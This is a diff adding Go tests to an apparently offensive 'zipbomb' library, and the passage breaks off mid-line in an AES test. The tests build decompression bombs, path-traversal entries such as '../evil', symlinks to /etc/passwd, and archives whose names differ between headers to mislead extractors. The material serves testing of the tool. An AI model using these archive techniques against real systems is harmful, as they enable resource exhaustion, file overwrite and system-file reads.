@@ -3,9 +3,26 @@ package zipbomb
 import (
 	"archive/zip"
 	"bytes"
+	"compress/flate"
+	"crypto/aes"
+	"crypto/hmac"
+	"crypto/sha1"
+	"crypto/sha256"
+	"encoding/binary"
+	"encoding/hex"
+	"encoding/json"
+	"encoding/xml"
+	"fmt"
+	"hash/crc32"
 	"io"
+	"io/fs"
+	"strings"
+	"sync/atomic"
 	"testing"
+	"testing/iotest"
+	"time"
 
+	"github.com/hupe1980/zipbomb/pkg/filename"
 	"github.com/stretchr/testify/assert"
 )
 
@@ -15,7 +32,7 @@ func TestBomb(t *testing.T) {
 	zbomb, err := New(buffer)
 	assert.NoError(t, err)
 
-	err = zbomb.AddEscapedOverlap([]byte{'A'}, 3)
+	err = zbomb.AddEscapedOverlap(BytesKernel{'A'}, 3)
 	assert.NoError(t, err)
 
 	err = zbomb.Close()
@@ -35,3 +52,1240 @@ func TestBomb(t *testing.T) {
 		fr.Close()
 	}
 }
+
+func TestReport(t *testing.T) {
+	buffer := new(bytes.Buffer)
+
+	zbomb, err := New(buffer)
+	assert.NoError(t, err)
+
+	err = zbomb.AddNoOverlap(BytesKernel{'A'}, 3)
+	assert.NoError(t, err)
+
+	err = zbomb.Close()
+	assert.NoError(t, err)
+
+	r := zbomb.Report()
+	sum := sha256.Sum256(buffer.Bytes())
+
+	assert.Equal(t, hex.EncodeToString(sum[:]), r.SHA256)
+	assert.Equal(t, int64(buffer.Len()), r.CompressedSize)
+	assert.Equal(t, int64(3), r.UncompressedSize)
+	assert.Equal(t, 3, r.Entries)
+	assert.False(t, r.Zip64)
+	assert.Zero(t, r.RatioGain)
+
+	t.Run("Ratio gain", func(t *testing.T) {
+		build := func(optFns ...func(o *OverlapOptions)) *Report {
+			zbomb, err := New(io.Discard)
+			assert.NoError(t, err)
+
+			err = zbomb.AddNoOverlap(BytesKernel{'A'}, 2000, optFns...)
+			assert.NoError(t, err)
+
+			err = zbomb.Close()
+			assert.NoError(t, err)
+
+			return zbomb.Report()
+		}
+
+		baseline := build()
+		shortest := build(func(o *OverlapOptions) {
+			o.FilenameGen = filename.NewShortestGenerator(2000)
+		})
+
+		assert.Zero(t, baseline.RatioGain)
+		assert.Equal(t, float64(baseline.CompressedSize)/float64(shortest.CompressedSize), shortest.RatioGain)
+
+		// rejected files do not count
+		zbomb, err := New(io.Discard)
+		assert.NoError(t, err)
+
+		err = zbomb.AddEscapedOverlap(BytesKernel{'A'}, 2000, func(o *OverlapOptions) {
+			o.FilenameGen = filename.NewShortestGenerator(2000)
+			o.Password = "secret"
+		})
+		assert.ErrorIs(t, err, errEncryptedOverlap)
+
+		err = zbomb.AddNoOverlap(BytesKernel{'A'}, 3)
+		assert.NoError(t, err)
+
+		err = zbomb.Close()
+		assert.NoError(t, err)
+
+		assert.Zero(t, zbomb.Report().RatioGain)
+	})
+}
+
+func TestAddFile(t *testing.T) {
+	buffer := new(bytes.Buffer)
+
+	zbomb, err := New(buffer)
+	assert.NoError(t, err)
+
+	modified := time.Date(2020, 1, 2, 3, 4, 6, 0, time.UTC)
+
+	for _, method := range []uint16{Store, Deflate} {
+		err = zbomb.AddFile(fmt.Sprintf("file-%d.txt", method), strings.NewReader("decoy"), func(o *FileOptions) {
+			o.Method = method
+			o.FileMode = 0600
+			o.Modified = modified
+			o.Comment = "comment"
+		})
+		assert.NoError(t, err)
+	}
+
+	err = zbomb.Close()
+	assert.NoError(t, err)
+
+	r, err := zip.NewReader(bytes.NewReader(buffer.Bytes()), int64(buffer.Len()))
+	assert.NoError(t, err)
+	assert.Len(t, r.File, 2)
+
+	for i, method := range []uint16{Store, Deflate} {
+		file := r.File[i]
+		assert.Equal(t, method, file.Method)
+		assert.Equal(t, fs.FileMode(0600), file.Mode())
+		assert.Equal(t, modified, file.Modified.UTC())
+		assert.Equal(t, "comment", file.Comment)
+
+		fr, err := file.Open()
+		assert.NoError(t, err)
+
+		b, err := io.ReadAll(fr)
+		assert.NoError(t, err)
+		assert.Equal(t, "decoy", string(b))
+
+		fr.Close()
+	}
+}
+
+func TestStore(t *testing.T) {
+	t.Run("NoOverlap", func(t *testing.T) {
+		buffer := new(bytes.Buffer)
+
+		zbomb, err := New(buffer)
+		assert.NoError(t, err)
+
+		err = zbomb.AddNoOverlap(RepeatKernel{Bytes: []byte{0}, Repeats: 1024}, 3, func(o *OverlapOptions) {
+			o.Method = Store
+		})
+		assert.NoError(t, err)
+		assert.NoError(t, zbomb.Close())
+
+		assertExtractable(t, buffer.Bytes(), 3*1024)
+	})
+
+	t.Run("Overlap", func(t *testing.T) {
+		buffer := new(bytes.Buffer)
+
+		zbomb, err := New(buffer)
+		assert.NoError(t, err)
+
+		err = zbomb.AddEscapedOverlap(RepeatKernel{Bytes: []byte{0}, Repeats: 1024}, 10, func(o *OverlapOptions) {
+			o.Method = Store
+		})
+		assert.NoError(t, err)
+		assert.NoError(t, zbomb.Close())
+
+		assertExtractable(t, buffer.Bytes(), 10*1024)
+	})
+
+	t.Run("Overlap too many files", func(t *testing.T) {
+		zbomb, err := New(io.Discard)
+		assert.NoError(t, err)
+
+		err = zbomb.AddEscapedOverlap(BytesKernel{0}, 3000, func(o *OverlapOptions) {
+			o.Method = Store
+		})
+		assert.Error(t, err)
+	})
+
+	t.Run("Unsupported method", func(t *testing.T) {
+		_, err := CompressKernel([]byte{0}, 99, 5)
+		assert.Error(t, err)
+	})
+}
+
+// assertExtractable extracts all files of the archive and compares the total
+// uncompressed size.
+func assertExtractable(t *testing.T, b []byte, size int64) {
+	t.Helper()
+
+	r, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
+	assert.NoError(t, err)
+
+	var total int64
+
+	for _, file := range r.File {
+		fr, err := file.Open()
+		assert.NoError(t, err)
+
+		// nolint gosec testcase
+		n, err := io.Copy(io.Discard, fr)
+		assert.NoError(t, err)
+
+		total += n
+
+		fr.Close()
+	}
+
+	assert.Equal(t, size, total)
+}
+
+func TestSymlink(t *testing.T) {
+	buffer := new(bytes.Buffer)
+
+	zbomb, err := New(buffer)
+	assert.NoError(t, err)
+
+	err = zbomb.AddSymlink("passwd", "/etc/passwd")
+	assert.NoError(t, err)
+
+	err = zbomb.AddSymlinkWrite(BytesKernel{'A'}, "tmp/file", "/tmp")
+	assert.NoError(t, err)
+
+	err = zbomb.AddSymlinkWrite(BytesKernel{'A'}, "file", "/tmp")
+	assert.Error(t, err)
+
+	err = zbomb.Close()
+	assert.NoError(t, err)
+
+	r, err := zip.NewReader(bytes.NewReader(buffer.Bytes()), int64(buffer.Len()))
+	assert.NoError(t, err)
+	assert.Len(t, r.File, 3)
+
+	for i, target := range []string{"/etc/passwd", "/tmp"} {
+		file := r.File[i]
+		assert.Equal(t, fs.ModeSymlink|0777, file.Mode())
+
+		fr, err := file.Open()
+		assert.NoError(t, err)
+
+		b, err := io.ReadAll(fr)
+		assert.NoError(t, err)
+		assert.Equal(t, target, string(b))
+
+		fr.Close()
+	}
+
+	assert.Equal(t, "tmp/file", r.File[2].Name)
+
+	t.Run("Options of the caller", func(t *testing.T) {
+		zbomb, err := New(io.Discard)
+		assert.NoError(t, err)
+
+		optFns := make([]func(o *ZipSlipOptions), 1, 2)
+		optFns[0] = func(o *ZipSlipOptions) {
+			o.FileMode = 0600
+		}
+
+		err = zbomb.AddSymlink("passwd", "/etc/passwd", optFns...)
+		assert.NoError(t, err)
+
+		// the spare capacity is left untouched
+		assert.Nil(t, optFns[:2][1])
+	})
+
+	t.Run("Options of the link", func(t *testing.T) {
+		buffer := new(bytes.Buffer)
+
+		zbomb, err := New(buffer)
+		assert.NoError(t, err)
+
+		modified := time.Date(2020, 1, 2, 3, 4, 6, 0, time.UTC)
+
+		err = zbomb.AddSymlinkWrite(BytesKernel{'A'}, "tmp/file", "/tmp", func(o *ZipSlipOptions) {
+			o.Method = Store
+			o.Modified = modified
+			o.Comment = "comment"
+			o.UnicodePath = "unicode/file"
+			o.Extra = UnixOwnerExtra(0, 0)
+			o.Password = "secret"
+		})
+		assert.NoError(t, err)
+
+		err = zbomb.Close()
+		assert.NoError(t, err)
+
+		r, err := zip.NewReader(bytes.NewReader(buffer.Bytes()), int64(buffer.Len()))
+		assert.NoError(t, err)
+		assert.Len(t, r.File, 2)
+
+		link, file := r.File[0], r.File[1]
+		assert.Equal(t, Store, link.Method)
+		assert.True(t, link.Modified.Equal(modified))
+		assert.Zero(t, link.Flags&flagEncrypted)
+		assert.Empty(t, link.Comment)
+		assert.Empty(t, link.Extra)
+
+		assert.Equal(t, uint16(flagEncrypted), file.Flags&flagEncrypted)
+		assert.Equal(t, "comment", file.Comment)
+		assert.True(t, hasExtra(file.Extra, unicodePathExtraID))
+	})
+}
+
+func TestDifferential(t *testing.T) {
+	buffer := new(bytes.Buffer)
+
+	zbomb, err := New(buffer)
+	assert.NoError(t, err)
+
+	err = zbomb.AddDifferential(BytesKernel("AAAA"), "../evil", func(o *DifferentialOptions) {
+		o.CentralName = "readme.txt"
+		o.SizeMismatch = true
+		o.CRCMismatch = true
+		o.Duplicate = []byte("harmless")
+	})
+	assert.NoError(t, err)
+
+	err = zbomb.Close()
+	assert.NoError(t, err)
+
+	r, err := zip.NewReader(bytes.NewReader(buffer.Bytes()), int64(buffer.Len()))
+	assert.NoError(t, err)
+	assert.Len(t, r.File, 2)
+
+	for _, file := range r.File {
+		assert.Equal(t, "readme.txt", file.Name)
+	}
+
+	assert.Equal(t, r.File[1].CompressedSize64, r.File[1].UncompressedSize64)
+	assert.Equal(t, ^crc32.ChecksumIEEE([]byte("AAAA")), r.File[1].CRC32)
+
+	// the local header keeps the real name
+	assert.Contains(t, buffer.String(), "../evil")
+}
+
+func TestDecoyEOCD(t *testing.T) {
+	for _, decoy := range []DecoyEOCD{DecoyEOCDComment, DecoyEOCDTrailing} {
+		for _, zip64 := range []bool{false, true} {
+			buffer := new(bytes.Buffer)
+
+			zbomb, err := New(buffer, func(o *Options) {
+				o.EOCDComment = "comment"
+				o.DecoyEOCD = decoy
+				o.DecoyZip64 = zip64
+			})
+			assert.NoError(t, err)
+
+			err = zbomb.AddNoOverlap(BytesKernel{'A'}, 3)
+			assert.NoError(t, err)
+
+			err = zbomb.Close()
+			assert.NoError(t, err)
+
+			// archive/zip picks the last end of central directory record
+			r, err := zip.NewReader(bytes.NewReader(buffer.Bytes()), int64(buffer.Len()))
+			assert.NoError(t, err)
+			assert.Len(t, r.File, 0)
+		}
+	}
+}
+
+func TestPrefix(t *testing.T) {
+	for _, unadjusted := range []bool{false, true} {
+		buffer := new(bytes.Buffer)
+
+		zbomb, err := New(buffer, func(o *Options) {
+			o.Prefix = []byte("#!/bin/sh\nexit 0\n")
+			o.UnadjustedPrefixOffsets = unadjusted
+		})
+		assert.NoError(t, err)
+
+		err = zbomb.AddNoOverlap(BytesKernel{'A'}, 3)
+		assert.NoError(t, err)
+
+		err = zbomb.Close()
+		assert.NoError(t, err)
+
+		assert.True(t, bytes.HasPrefix(buffer.Bytes(), []byte("#!/bin/sh")))
+		assertExtractable(t, buffer.Bytes(), 3)
+	}
+}
+
+func TestBaseOffset(t *testing.T) {
+	carrier := []byte("%PDF-1.4\n%%EOF\n")
+
+	buffer := new(bytes.Buffer)
+	buffer.Write(carrier)
+
+	zbomb, err := New(buffer, func(o *Options) {
+		o.BaseOffset = int64(len(carrier))
+	})
+	assert.NoError(t, err)
+
+	err = zbomb.AddNoOverlap(BytesKernel{'A'}, 3, func(o *OverlapOptions) {
+		o.Method = Store
+	})
+	assert.NoError(t, err)
+
+	err = zbomb.Close()
+	assert.NoError(t, err)
+
+	r, err := zip.NewReader(bytes.NewReader(buffer.Bytes()), int64(buffer.Len()))
+	assert.NoError(t, err)
+	assert.Len(t, r.File, 3)
+
+	// offsets must not rely on reader-side base offset detection
+	off, err := r.File[1].DataOffset()
+	assert.NoError(t, err)
+	assert.Equal(t, byte('A'), buffer.Bytes()[off])
+}
+
+func TestDataDescriptor(t *testing.T) {
+	for _, dd := range []DataDescriptor{
+		DataDescriptorSignature,
+		DataDescriptorNoSignature,
+		DataDescriptorZip64Signature,
+		DataDescriptorZip64NoSignature,
+	} {
+		buffer := new(bytes.Buffer)
+
+		zbomb, err := New(buffer)
+		assert.NoError(t, err)
+
+		err = zbomb.AddNoOverlap(BytesKernel("AAAA"), 3, func(o *OverlapOptions) {
+			o.DataDescriptor = dd
+		})
+		assert.NoError(t, err)
+
+		err = zbomb.AddZipSlip(BytesKernel("AAAA"), "../slip", func(o *ZipSlipOptions) {
+			o.DataDescriptor = dd
+		})
+		assert.NoError(t, err)
+
+		err = zbomb.Close()
+		assert.NoError(t, err)
+
+		// the local header carries neither sizes nor crc32
+		assert.Equal(t, uint16(flagDataDescriptor), binary.LittleEndian.Uint16(buffer.Bytes()[6:]))
+		assert.Equal(t, uint32(0), binary.LittleEndian.Uint32(buffer.Bytes()[14:]))
+
+		assertExtractable(t, buffer.Bytes(), 16)
+	}
+
+	t.Run("Overlap", func(t *testing.T) {
+		zbomb, err := New(io.Discard)
+		assert.NoError(t, err)
+
+		err = zbomb.AddEscapedOverlap(BytesKernel("AAAA"), 3, func(o *OverlapOptions) {
+			o.DataDescriptor = DataDescriptorSignature
+		})
+		assert.Error(t, err)
+	})
+}
+
+func TestForceZip64(t *testing.T) {
+	build := func(t *testing.T, layout Zip64Extra) ([]byte, int64) {
+		buffer := new(bytes.Buffer)
+
+		zbomb, err := New(buffer, func(o *Options) {
+			o.ForceZip64 = true
+			o.Zip64Extra = layout
+		})
+		assert.NoError(t, err)
+
+		err = zbomb.AddNoOverlap(BytesKernel("AAAA"), 2)
+		assert.NoError(t, err)
+
+		err = zbomb.AddEscapedOverlap(BytesKernel("AAAA"), 3)
+		assert.NoError(t, err)
+
+		err = zbomb.Close()
+		assert.NoError(t, err)
+
+		assert.True(t, zbomb.IsZip64())
+
+		// the first local header signals zip64
+		assert.Equal(t, uint16(zipVersion45), binary.LittleEndian.Uint16(buffer.Bytes()[4:]))
+		assert.Equal(t, uint32(uint32max), binary.LittleEndian.Uint32(buffer.Bytes()[22:]))
+
+		return buffer.Bytes(), zbomb.UncompressedSize()
+	}
+
+	t.Run("Standard", func(t *testing.T) {
+		b, size := build(t, Zip64ExtraStandard)
+		assert.True(t, bytes.Contains(b, []byte{0x50, 0x4b, 0x06, 0x06}))
+		assertExtractable(t, b, size)
+	})
+
+	t.Run("Partial", func(t *testing.T) {
+		b, size := build(t, Zip64ExtraPartial)
+		assertExtractable(t, b, size)
+	})
+
+	t.Run("Reversed", func(t *testing.T) {
+		b, _ := build(t, Zip64ExtraReversed)
+
+		// the uncompressed size comes last
+		nameLen := int(binary.LittleEndian.Uint16(b[26:]))
+		extra := b[fileHeaderLen+nameLen:]
+		assert.Equal(t, uint16(zip64ExtraID), binary.LittleEndian.Uint16(extra))
+		assert.NotEqual(t, uint64(4), binary.LittleEndian.Uint64(extra[4:]))
+		assert.Equal(t, uint64(4), binary.LittleEndian.Uint64(extra[12:]))
+	})
+
+	t.Run("None", func(t *testing.T) {
+		b, _ := build(t, Zip64ExtraNone)
+
+		// without zip64 extra fields the reader sees the sentinels
+		r, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
+		assert.NoError(t, err)
+		assert.Len(t, r.File, 5)
+
+		for _, file := range r.File {
+			assert.Equal(t, uint64(uint32max), file.UncompressedSize64)
+			assert.Equal(t, uint64(uint32max), file.CompressedSize64)
+		}
+	})
+}
+
+func TestManyFiles(t *testing.T) {
+	carrier := []byte("#!/bin/sh\nexit 0\n")
+
+	buffer := new(bytes.Buffer)
+	buffer.Write(carrier)
+
+	zbomb, err := New(buffer, func(o *Options) {
+		o.BaseOffset = int64(len(carrier))
+	})
+	assert.NoError(t, err)
+
+	err = zbomb.AddManyFiles(nil, uint16max+1, func(o *ManyFilesOptions) {
+		o.Depth = 3
+	})
+	assert.NoError(t, err)
+
+	err = zbomb.Close()
+	assert.NoError(t, err)
+
+	// the entry count needs zip64 end records, which are found through
+	// the locator
+	assert.True(t, zbomb.IsZip64())
+
+	r, err := zip.NewReader(bytes.NewReader(buffer.Bytes()), int64(buffer.Len()))
+	assert.NoError(t, err)
+	assert.Len(t, r.File, uint16max+1)
+	assert.Equal(t, "0/1/2/0", r.File[0].Name)
+	assert.Equal(t, uint64(0), r.File[0].UncompressedSize64)
+}
+
+func TestDeepNesting(t *testing.T) {
+	buffer := new(bytes.Buffer)
+
+	zbomb, err := New(buffer)
+	assert.NoError(t, err)
+
+	err = zbomb.AddDeepNesting(BytesKernel("AAAA"), "bomb.txt", 100, func(o *DeepNestingOptions) {
+		o.NameLength = 300
+	})
+	assert.NoError(t, err)
+
+	err = zbomb.Close()
+	assert.NoError(t, err)
+
+	r, err := zip.NewReader(bytes.NewReader(buffer.Bytes()), int64(buffer.Len()))
+	assert.NoError(t, err)
+	assert.Len(t, r.File, 101)
+
+	// a directory entry for every level
+	assert.True(t, r.File[0].Mode().IsDir())
+	assert.Equal(t, uint32(msdosDir), r.File[0].ExternalAttrs&msdosDir)
+	assert.Len(t, r.File[0].Name, 301)
+	assert.True(t, strings.HasSuffix(r.File[100].Name, "/bomb.txt"))
+	assert.Len(t, r.File[100].Name, 100*301+len("bomb.txt"))
+
+	t.Run("Long name", func(t *testing.T) {
+		zbomb, err := New(io.Discard)
+		assert.NoError(t, err)
+
+		err = zbomb.AddDeepNesting(BytesKernel("AAAA"), "bomb.txt", 40000)
+		assert.Error(t, err)
+	})
+}
+
+func TestCollision(t *testing.T) {
+	buffer := new(bytes.Buffer)
+
+	zbomb, err := New(buffer)
+	assert.NoError(t, err)
+
+	err = zbomb.AddCollision(BytesKernel("payload"), 3, func(o *CollisionOptions) {
+		o.FilenameGen = filename.NewCollisionGenerator("a", filename.CollisionFileDir)
+	})
+	assert.NoError(t, err)
+
+	err = zbomb.AddCollision(BytesKernel("payload"), 2)
+	assert.NoError(t, err)
+
+	err = zbomb.Close()
+	assert.NoError(t, err)
+
+	r, err := zip.NewReader(bytes.NewReader(buffer.Bytes()), int64(buffer.Len()))
+	assert.NoError(t, err)
+	assert.Len(t, r.File, 5)
+	assert.Equal(t, "a", r.File[0].Name)
+	assert.Equal(t, "a/1", r.File[2].Name)
+	assert.Equal(t, r.File[3].Name, r.File[4].Name)
+
+	// the benign copy comes first, the payload last
+	for i, content := range []string{"harmless", "payload"} {
+		fr, err := r.File[3+i].Open()
+		assert.NoError(t, err)
+
+		b, err := io.ReadAll(fr)
+		assert.NoError(t, err)
+		assert.Equal(t, content, string(b))
+
+		fr.Close()
+	}
+}
+
+func TestUnicode(t *testing.T) {
+	build := func(t *testing.T, optFn func(o *Options)) *zip.Reader {
+		buffer := new(bytes.Buffer)
+
+		zbomb, err := New(buffer, optFn)
+		assert.NoError(t, err)
+
+		err = zbomb.AddFile("héllo.txt", strings.NewReader("AAAA"), func(o *FileOptions) {
+			o.Comment = "ça va"
+		})
+		assert.NoError(t, err)
+
+		err = zbomb.AddFile("ascii.txt", strings.NewReader("AAAA"))
+		assert.NoError(t, err)
+
+		err = zbomb.Close()
+		assert.NoError(t, err)
+
+		r, err := zip.NewReader(bytes.NewReader(buffer.Bytes()), int64(buffer.Len()))
+		assert.NoError(t, err)
+
+		return r
+	}
+
+	t.Run("Auto", func(t *testing.T) {
+		r := build(t, func(o *Options) {})
+		assert.Equal(t, uint16(flagUTF8), r.File[0].Flags&flagUTF8)
+		assert.Equal(t, uint16(0), r.File[1].Flags&flagUTF8)
+		assert.Equal(t, "héllo.txt", r.File[0].Name)
+	})
+
+	t.Run("Never", func(t *testing.T) {
+		r := build(t, func(o *Options) {
+			o.UTF8Flag = UTF8FlagNever
+			o.UnicodeExtra = true
+		})
+		assert.Equal(t, uint16(0), r.File[0].Flags&flagUTF8)
+		assert.True(t, hasExtra(r.File[0].Extra, unicodePathExtraID))
+		assert.True(t, hasExtra(r.File[0].Extra, unicodeCommentExtraID))
+		assert.Empty(t, r.File[1].Extra)
+	})
+
+	t.Run("Always", func(t *testing.T) {
+		r := build(t, func(o *Options) {
+			o.UTF8Flag = UTF8FlagAlways
+		})
+		assert.Equal(t, uint16(flagUTF8), r.File[1].Flags&flagUTF8)
+	})
+}
+
+func TestCRC32Combine(t *testing.T) {
+	a, b := []byte("zip bomb "), bytes.Repeat([]byte("kernel"), 1000)
+
+	assert.Equal(t, crc32.ChecksumIEEE(append(a, b...)), crc32Combine(crc32.ChecksumIEEE(a), crc32.ChecksumIEEE(b), uint64(len(b))))
+	assert.Equal(t, crc32.ChecksumIEEE(a), crc32Combine(crc32.ChecksumIEEE(a), 0, 0))
+}
+
+func TestKernel(t *testing.T) {
+	read := func(t *testing.T, k Kernel) []byte {
+		r, err := k.Open()
+		assert.NoError(t, err)
+
+		defer r.Close()
+
+		b, err := io.ReadAll(r)
+		assert.NoError(t, err)
+		assert.Equal(t, k.Len(), int64(len(b)))
+
+		return b
+	}
+
+	t.Run("Repeat", func(t *testing.T) {
+		b := read(t, RepeatKernel{Bytes: []byte("abc"), Repeats: 5000})
+		assert.Equal(t, bytes.Repeat([]byte("abc"), 5000), b)
+	})
+
+	t.Run("Content", func(t *testing.T) {
+		k, err := NewContentKernel(ContentJSON, 100)
+		assert.NoError(t, err)
+
+		var records []map[string]any
+		assert.NoError(t, json.Unmarshal(read(t, k), &records))
+		assert.Len(t, records, 100)
+
+		k, err = NewContentKernel(ContentXML, 3)
+		assert.NoError(t, err)
+		assert.NoError(t, xml.Unmarshal(read(t, k), new(struct{})))
+	})
+
+	t.Run("Reader", func(t *testing.T) {
+		buffer := new(bytes.Buffer)
+
+		zbomb, err := New(buffer)
+		assert.NoError(t, err)
+
+		err = zbomb.AddNoOverlap(NewReaderKernel(strings.NewReader("AAAAAAAA"), 4), 2)
+		assert.NoError(t, err)
+
+		// the reader is shorter than the length
+		err = zbomb.AddNoOverlap(NewReaderKernel(strings.NewReader("AA"), 4), 2)
+		assert.Error(t, err)
+
+		// a negative length reads to the end
+		err = zbomb.AddNoOverlap(NewReaderKernel(strings.NewReader("BBB"), -1), 2)
+		assert.NoError(t, err)
+
+		err = zbomb.AddFile("file.txt", iotest.OneByteReader(strings.NewReader("CCCCC")), func(o *FileOptions) {
+			o.Method = Store
+		})
+		assert.NoError(t, err)
+
+		err = zbomb.Close()
+		assert.NoError(t, err)
+
+		assertExtractable(t, buffer.Bytes(), 8+6+5)
+	})
+}
+
+func TestRepeatDeflate(t *testing.T) {
+	patterns := [][]byte{
+		{'B'},
+		[]byte("ab"),
+		[]byte("abcde"),
+		[]byte("hello, world\n"),
+		bytes.Repeat([]byte("0123456789"), 1000),
+	}
+
+	for _, p := range patterns {
+		for _, repeats := range []int64{1, 2, 100, 1000, 100000} {
+			if int64(len(p))*repeats > 10_000_000 {
+				continue
+			}
+
+			k := RepeatKernel{Bytes: p, Repeats: repeats}
+
+			d := newRepeatDeflate(k)
+
+			buffer := new(bytes.Buffer)
+			n, err := d.WriteTo(buffer)
+			assert.NoError(t, err)
+			assert.Equal(t, int64(d.Len()), n)
+
+			b, err := io.ReadAll(flate.NewReader(buffer))
+			assert.NoError(t, err)
+			assert.Equal(t, bytes.Repeat(p, int(repeats)), b, "pattern of %d bytes repeated %d times", len(p), repeats)
+			assert.Equal(t, crc32.ChecksumIEEE(b), repeatCRC32(k))
+		}
+	}
+
+	t.Run("Terabyte", func(t *testing.T) {
+		k, err := (&ZipBomb{}).newKernel("", RepeatKernel{Bytes: []byte{'B'}, Repeats: 1 << 40}, Deflate, 5)
+		assert.NoError(t, err)
+
+		assert.Equal(t, uint64(1<<40), k.UncompressedSize())
+		assert.Less(t, k.CompressedSize(), uint64(1<<40)/1000)
+
+		d, ok := k.Data().(*repeatDeflate)
+		assert.True(t, ok)
+		assert.Less(t, len(d.head)+len(d.body)+len(d.tail), 4096)
+	})
+
+	t.Run("Negative repeats", func(t *testing.T) {
+		k := RepeatKernel{Bytes: []byte{'B'}, Repeats: -1}
+
+		_, err := k.Open()
+		assert.ErrorIs(t, err, errRepeats)
+
+		for _, method := range []uint16{Store, Deflate} {
+			_, err = (&ZipBomb{}).newKernel("", k, method, 5)
+			assert.ErrorIs(t, err, errRepeats)
+		}
+	})
+}
+
+func TestParallel(t *testing.T) {
+	k, err := NewContentKernel(ContentLog, 50000)
+	assert.NoError(t, err)
+
+	r, err := k.Open()
+	assert.NoError(t, err)
+
+	data, err := io.ReadAll(r)
+	assert.NoError(t, err)
+	assert.Greater(t, len(data), 2*parallelChunkSize)
+
+	t.Run("CompressKernel", func(t *testing.T) {
+		compressed, err := CompressKernel(data, Deflate, 5, func(o *CompressOptions) {
+			o.Workers = 4
+		})
+		assert.NoError(t, err)
+
+		b, err := io.ReadAll(flate.NewReader(bytes.NewReader(compressed)))
+		assert.NoError(t, err)
+		assert.Equal(t, data, b)
+
+		// the output does not depend on the number of workers
+		other, err := CompressKernel(data, Deflate, 5, func(o *CompressOptions) {
+			o.Workers = 2
+		})
+		assert.NoError(t, err)
+		assert.Equal(t, compressed, other)
+	})
+
+	t.Run("Kernel", func(t *testing.T) {
+		buffer := new(bytes.Buffer)
+
+		zbomb, err := New(buffer, func(o *Options) {
+			o.Workers = 4
+		})
+		assert.NoError(t, err)
+
+		err = zbomb.AddNoOverlap(k, 3)
+		assert.NoError(t, err)
+
+		err = zbomb.Close()
+		assert.NoError(t, err)
+
+		assertExtractable(t, buffer.Bytes(), 3*int64(len(data)))
+	})
+
+	t.Run("Invalid level", func(t *testing.T) {
+		_, err := CompressKernel(data, Deflate, 42, func(o *CompressOptions) {
+			o.Workers = 4
+		})
+		assert.Error(t, err)
+	})
+
+	t.Run("Write error", func(t *testing.T) {
+		w := &failingWriter{n: 3}
+		r := &endlessReader{}
+
+		// compressParallel returns only after the producer stopped, so it
+		// does not return at all if the producer reads on
+		_, _, err := compressParallel(w, r, 5, 4)
+		assert.ErrorIs(t, err, io.ErrClosedPipe)
+		assert.Equal(t, 3, w.writes)
+
+		// no read is in progress and the producer read at most the chunks
+		// in flight after the failed write
+		assert.Zero(t, r.active.Load())
+		assert.LessOrEqual(t, r.reads.Load(), int64(w.n+4+1))
+	})
+}
+
+// endlessReader is an endless reader that counts its reads and the reads in
+// progress.
+type endlessReader struct {
+	reads  atomic.Int64
+	active atomic.Int32
+}
+
+func (r *endlessReader) Read(p []byte) (int, error) {
+	r.active.Add(1)
+	defer r.active.Add(-1)
+
+	r.reads.Add(1)
+
+	return len(p), nil
+}
+
+// failingWriter is a writer that fails on the nth write.
+type failingWriter struct {
+	n      int
+	writes int
+}
+
+func (w *failingWriter) Write(p []byte) (int, error) {
+	w.writes++
+	if w.writes == w.n {
+		return 0, io.ErrClosedPipe
+	}
+
+	return len(p), nil
+}
+
+func TestZipCrypto(t *testing.T) {
+	buffer := new(bytes.Buffer)
+
+	zbomb, err := New(buffer)
+	assert.NoError(t, err)
+
+	err = zbomb.AddNoOverlap(BytesKernel("AAAA"), 2, func(o *OverlapOptions) {
+		o.Password = "secret"
+	})
+	assert.NoError(t, err)
+
+	err = zbomb.AddZipSlip(BytesKernel("BBBB"), "../slip", func(o *ZipSlipOptions) {
+		o.Password = "secret"
+		o.DataDescriptor = DataDescriptorSignature
+	})
+	assert.NoError(t, err)
+
+	err = zbomb.AddFile("plain.txt", strings.NewReader("CCCC"), func(o *FileOptions) {
+		o.Method = Store
+		o.Password = "secret"
+	})
+	assert.NoError(t, err)
+
+	err = zbomb.AddEscapedOverlap(BytesKernel("DDDD"), 2, func(o *OverlapOptions) {
+		o.Password = "secret"
+	})
+	assert.ErrorIs(t, err, errEncryptedOverlap)
+
+	err = zbomb.AddManyFiles(BytesKernel("EEEE"), 2, func(o *ManyFilesOptions) {
+		o.Depth = 0
+		o.Password = "secret"
+	})
+	assert.NoError(t, err)
+
+	err = zbomb.AddDeepNesting(BytesKernel("FFFF"), "nested", 3, func(o *DeepNestingOptions) {
+		o.NoDirectories = true
+		o.Password = "secret"
+	})
+	assert.NoError(t, err)
+
+	err = zbomb.AddCollision(BytesKernel("GGGG"), 2, func(o *CollisionOptions) {
+		o.Password = "secret"
+	})
+	assert.NoError(t, err)
+
+	err = zbomb.AddDifferential(BytesKernel("HHHH"), "local", func(o *DifferentialOptions) {
+		o.CentralName = "central"
+		o.Password = "secret"
+	})
+	assert.NoError(t, err)
+
+	err = zbomb.Close()
+	assert.NoError(t, err)
+
+	r, err := zip.NewReader(bytes.NewReader(buffer.Bytes()), int64(buffer.Len()))
+	assert.NoError(t, err)
+	assert.Len(t, r.File, 10)
+
+	for _, file := range r.File {
+		assert.Equal(t, uint16(flagEncrypted), file.Flags&flagEncrypted)
+
+		raw, err := file.OpenRaw()
+		assert.NoError(t, err)
+
+		data, err := io.ReadAll(raw)
+		assert.NoError(t, err)
+		assert.Equal(t, file.CompressedSize64, uint64(len(data)))
+
+		// decrypt
+		z := newZipCrypto("secret")
+		for i, c := range data {
+			data[i] = c ^ z.streamByte()
+			z.update(data[i])
+		}
+
+		check := byte(file.CRC32 >> 24)
+		if file.Flags&flagDataDescriptor != 0 {
+			check = byte(file.ModifiedTime >> 8)
+		}
+
+		assert.Equal(t, check, data[zipCryptoHeaderLen-1])
+
+		content := data[zipCryptoHeaderLen:]
+		if file.Method == Deflate {
+			content, err = io.ReadAll(flate.NewReader(bytes.NewReader(content)))
+			assert.NoError(t, err)
+		}
+
+		assert.Equal(t, file.CRC32, crc32.ChecksumIEEE(content))
+	}
+}
+
+func TestAES(t *testing.T) {
+	t.Run("PBKDF2", func(t *testing.T) {
+		// RFC 6070 test vectors
+		assert.Equal(t, "0c60c80f961f0e71f3a9b524af6012062fe037a6", hex.EncodeToString(pbkdf2SHA1([]byte("password"), []byte("salt"), 1, 20)))
